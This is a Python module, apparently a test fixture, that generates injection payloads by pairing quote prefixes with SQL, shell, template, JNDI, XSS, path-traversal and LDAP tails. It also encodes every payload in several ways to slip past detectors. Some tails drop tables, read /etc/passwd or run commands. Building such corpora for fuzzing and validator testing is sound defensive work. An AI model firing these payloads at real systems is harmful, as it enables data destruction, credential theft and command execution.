"""What people type who want a database, a shell or a template to do something else."""

from collections.abc import Callable
from itertools import product
from urllib.parse import quote as percent

QUOTES = ("", "'", '"', "`", "')", '")', "'))", "\\'")
TAILS = (
    " OR 1=1",
    " OR 1=1 --",
    " OR '1'='1",
    " UNION SELECT body FROM turns --",
    " UNION ALL SELECT NULL, NULL, NULL --",
    "; DROP TABLE memories; --",
    "; DELETE FROM users; --",
    "; UPDATE access_keys SET owner='ann'; --",
    "; ATTACH DATABASE '/tmp/x' AS x; --",
    "; PRAGMA writable_schema=ON; --",
    " AND pg_sleep(5) --",
    "; SELECT pg_read_file('/etc/passwd'); --",
    "; COPY users TO PROGRAM 'id'; --",
    " || (SELECT wrapped FROM user_keys) || ",
    "/**/OR/**/1=1",
    " LIKE '%",
    " GLOB '*",
    " COLLATE NOCASE",
    " RETURNING *",
    " ON CONFLICT DO NOTHING",
    "\nGO\n",
    "%27%20OR%201=1",
    "$$; SELECT 1; $$",
    "{{7*7}}",
    "${jndi:ldap://x/a}",
    "$(id)",
    "`id`",
    "; cat /etc/passwd",
    "%s%s%n",
    ":user",
    "?",
    "%(user)s",
    "${user}",
    "<script>alert(1)</script>",
    "../../etc/passwd",
    "__proto__",
    "*)(uid=*",
    "' && this.a == 'b",
    "\u02bc OR 1=1",
    "\uff07 OR 1=1 --",
)
PAYLOADS = tuple(dict.fromkeys(f"{quote}{tail}" for quote, tail in product(QUOTES, TAILS)))

DISGUISES: tuple[Callable[[str], str], ...] = (
    lambda text: text,
    str.swapcase,
    lambda text: text.replace(" ", "/**/"),
    lambda text: text.replace(" ", "\t\n"),
    lambda text: percent(text, safe=""),
    lambda text: percent(percent(text, safe=""), safe=""),
    lambda text: "".join(f"\\u{ord(letter):04x}" for letter in text),
    lambda text: "".join(
        chr(ord(letter) + 0xFEE0) if "!" <= letter <= "~" else letter for letter in text
    ),
)
"""The same thing written in other ways, as what looks for it does not expect it."""
DISGUISED = tuple(dict.fromkeys(disguise(text) for disguise, text in product(DISGUISES, PAYLOADS)))
"""Every payload as it stands, then in every disguise."""
